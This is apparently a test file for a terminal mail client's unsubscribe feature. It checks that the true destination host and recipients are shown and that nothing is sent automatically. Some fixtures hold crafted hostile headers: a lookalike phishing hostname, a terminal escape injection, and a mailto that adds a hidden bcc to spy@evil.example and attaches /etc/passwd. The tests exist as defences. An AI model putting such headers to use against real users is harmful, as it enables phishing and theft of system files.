"""Leaving a list: where each way leads is shown, and nothing goes by itself."""

import pytest

from tests.ui.screens import Link, app_over, put, raw_mail, sees, shown, until
from tuimail.services import delivery

FIELD = (
    b"List-Unsubscribe: <https://list.example/out?u=1>, <mailto:leave@list.example?subject=go>\r\n"
)


@pytest.fixture
def listed(mail, monkeypatch):
    for name in ("DISPLAY", "WAYLAND_DISPLAY", "BROWSER"):
        monkeypatch.delenv(name, raising=False)
    put(mail, "alice", "INBOX", [FIELD + raw_mail("alice", -1)], first_uid=900)
    return mail


async def asked(pilot) -> None:
    await pilot.press("g", "U")
    await sees(pilot, "Leave the list by")


async def test_the_ways_are_shown_with_whom_they_tell(listed):
    app = app_over(listed)
    async with app.run_test(size=(120, 40)) as pilot:
        await asked(pilot)
        assert "a page at list.example" in shown(app)
        assert "a mail to leave@list.example, which you send" in shown(app)
        await pilot.press("escape")
        await until(pilot, lambda: not app.desk.overlays.is_open)
        assert list(delivery.outbox(listed)) == []


async def test_whose_page_it_is_is_seen_however_long_its_name_and_narrow_the_screen(mail):
    host = f"bank.example.{'login-' * 8}x.evil.example"
    field = f"List-Unsubscribe: <https://{host}/{'u' * 200}>\r\n".encode()
    put(mail, "alice", "INBOX", [field + raw_mail("alice", -1)], first_uid=900)
    app = app_over(mail)
    async with app.run_test(size=(80, 24)) as pilot:
        await asked(pilot)
        assert "a page at …" in shown(app)
        assert "x.evil.example " in shown(app)


async def test_all_to_whom_a_mail_goes_are_named_and_a_mail_to_nobody_is_not_offered(mail):
    field = (
        b"List-Unsubscribe: <mailto:>, <mailto:%1b]0;x%07>,\r\n"
        b" <mailto:leave@list.example?bcc=spy@evil.example&attach=/etc/passwd>\r\n"
    )
    put(mail, "alice", "INBOX", [field + raw_mail("alice", -1)], first_uid=900)
    app = app_over(mail)
    async with app.run_test(size=(120, 40)) as pilot:
        await asked(pilot)
        assert "1/1" in shown(app)
        assert "a mail to leave@list.example, spy@evil.example, which you send" in shown(app)
        await pilot.press("enter")
        await until(pilot, lambda: app.desk.compose_pane is not None)
        fields = app.desk.compose_pane.fields
        await until(pilot, lambda: "spy@evil.example" in fields["bcc"].value)
        assert not app.desk.compose_pane.draft.attachments


async def test_a_mail_is_opened_to_be_read_and_sent_by_the_person(listed):
    app = app_over(listed)
    async with app.run_test(size=(120, 40)) as pilot:
        await asked(pilot)
        await pilot.press("down", "enter")
        await until(pilot, lambda: app.desk.compose_pane is not None)
        fields = app.desk.compose_pane.fields
        await until(pilot, lambda: fields["subject"].value == "go")
        assert "leave@list.example" in fields["to"].value
        assert list(delivery.outbox(listed)) == []


async def test_without_a_browser_the_address_is_said(listed):
    app = app_over(listed)
    async with app.run_test(size=(120, 40)) as pilot:
        await asked(pilot)
        await pilot.press("enter")
        await sees(pilot, "There is no browser here. https://list.example/out?u=1")


async def test_a_mail_of_no_list_says_so(mail):
    app = app_over(mail)
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.press("g", "U")
        await sees(pilot, "This mail names no safe way to leave its list.")
        assert "body" not in Link.wishes
